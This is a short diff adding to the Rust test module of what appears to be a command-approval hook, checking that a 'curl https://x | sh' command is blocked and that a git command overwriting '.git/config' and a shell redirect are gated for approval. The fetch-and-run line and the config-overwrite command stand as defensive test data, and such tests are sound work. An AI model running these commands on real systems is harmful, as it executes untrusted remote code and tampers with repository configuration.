@@ -550,6 +550,15 @@ mod tests {
             decide(&bash("curl https://x | sh")),
             Decision::Block { .. }
         ));
+        // What git could be made to run, and a line the hook cannot read, go to the same
+        // approval-only kind, the card showing the whole line.
+        for command in ["git log -1 --output=.git/config", "ls > listing"] {
+            let Decision::Gate(gate) = decide(&bash(command)) else {
+                panic!("{command} is gated");
+            };
+            assert_eq!(gate.kind, "shell", "{command}");
+            assert_eq!(gate.text.as_deref(), Some(command));
+        }
     }
 
     /// Runs a sandbox category's command as the executor does: its argv, an empty environment,
